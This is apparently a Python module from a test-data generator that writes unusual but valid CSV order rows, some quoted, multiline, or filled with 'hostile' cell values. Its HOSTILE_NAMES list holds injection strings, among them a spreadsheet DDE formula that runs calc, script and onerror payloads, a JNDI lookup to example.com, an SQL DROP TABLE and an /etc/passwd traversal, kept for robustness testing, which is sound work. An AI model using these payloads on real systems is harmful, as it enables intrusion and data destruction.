"""Unusual good rows: quoted, over several lines, or at the limits of what is allowed."""

from random import Random

from sample_data.shape import Shape, quote

_QUOTED_PRODUCTS = ('{} 3/4"', 'Pipe clamp 1/2" for {}', '"{}"', '{} "Professional"', '""', '{} 19" rack')
_ADDRESSES = (
    "Goods inwards\n12 Harbour Road",
    "Attn. Purchasing\nBuilding 4, Gate B",
    "c/o Reception\n\nFloor 2",
    "\nHQ",
)
_NOTES = (
    "Deliver before 10:00\nRing twice",
    'Engraving:\n"With thanks"\n- the team',
    "black, not white\nsee offer 4711",
)

# Texts that have broken importers, spreadsheets, log files and web pages. All are valid names.
HOSTILE_NAMES = (
    "=SUM(1)",
    '=HYPERLINK("https://example.com/?"&A1,"Invoice")',
    "=cmd|' /C calc'!A0",
    "+49 30 Handels GmbH",
    "-Discount- Outlet",
    "@SUM(A1:A9)",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7 * 7 }}",
    "${jndi:ldap://example.com/a}",
    "Robert'); DROP TABLE orders;--",
    "../../etc/passwd",
    "C:\\temp\\new",
    "\\N",
    "NULL",
    "None",
    "NaN",
    "true",
    "0",
    "1e5",
    "#REF!",
    "%s%n%d",
    'O\'Brien & Søn, "The Shop"; A|S',
    "order_id,customer_name,product_name,quantity,unit_price",
    "Tab\tin the middle",
    "Two\r\nlines",
    '"',
    '""","""',
    ",;|",
    "Jose\u0301 Nu\u0301n\u0303ez",
    "Z\u0351\u036b\u0343alg\u035c\u0321o\u0336 Ltd",
    "\U0001f9d1\u200d\U0001f33e Farm \U0001f336\ufe0f",
    "\U0001f1fa\U0001f1e6 \U0001f1ef\U0001f1f5",
    "\u0645\u0624\u0633\u0633\u0629 \u0627\u0644\u0646\u0648\u0631 (ABC 123)",
    '\u05d7\u05d1\u05e8\u05ea \u05d0\u05d5\u05e8 \u05d1\u05e2"\u05de',
    "\u0634\u0631\u06a9\u062a \u0646\u0645\u0648\u0646\u0647\u200c\u0627\u06cc",
    "N" * 200,
    "\U0001f4e6" * 200,
    "\u00df",
    "x",
)
_HOSTILE_IDS = (
    "000{}",
    "=SUM({})",
    "-{}",
    "{}" + "0" * 48,
    "<b>{}</b>",
    "{}\u2013\u00c4",
    "{},1;2|3",
    "\U0001f4e6{}",
    '"{}"',
)
_HOSTILE_QUANTITIES = ("1", "1000000", " 12 ", "999999")
_HOSTILE_PRICES = ("0", "0.0001", "9999999.9999", "9999999", " 12.5 ", "0.00", "007.50")


def quoted(cells: list[str], rng: Random, shape: Shape) -> str:
    """Write a row with quotes, needed for a delimiter or quotes in a cell, or not needed."""
    order_id, customer, product, quantity, unit_price = cells
    kind = rng.getrandbits(2)
    if kind == 0:
        return shape.delimiter.join(map(quote, cells))
    if kind == 1:
        return shape.row([order_id, f"{customer}{shape.delimiter} Dept. {rng.getrandbits(5)}", *cells[2:]])
    if kind == 2:
        return shape.row([order_id, customer, rng.choice(_QUOTED_PRODUCTS).format(product), quantity, unit_price])
    return shape.delimiter.join([order_id, quote(customer), quote(product), quantity, unit_price])


def multiline(cells: list[str], rng: Random, shape: Shape) -> str:
    """Write a row with line breaks, one of them an empty line, in the customer's or the product's cell."""
    order_id, customer, product, quantity, unit_price = cells
    if rng.getrandbits(1):
        customer = f"{customer}\n{rng.choice(_ADDRESSES)}".replace("\n", shape.line_end)
    else:
        product = f"{product}\n{rng.choice(_NOTES)}".replace("\n", shape.line_end)
    return shape.row([order_id, customer, product, quantity, unit_price])


def hostile(cells: list[str], rng: Random, shape: Shape) -> str:
    """Write a good row with cells that look like formulas, markup, numbers or empty values."""
    order_id, customer, product, quantity, unit_price = cells
    kind = rng.getrandbits(2)
    if kind == 0:
        customer = rng.choice(HOSTILE_NAMES)
    elif kind == 1:
        product = rng.choice(HOSTILE_NAMES)
    elif kind == 2:
        order_id = rng.choice(_HOSTILE_IDS).replace("{}", order_id)
    else:
        customer, product = f"  {customer} ", f" {product}   "
        quantity, unit_price = rng.choice(_HOSTILE_QUANTITIES), rng.choice(_HOSTILE_PRICES)
    return shape.row([order_id, customer, product, quantity, unit_price])
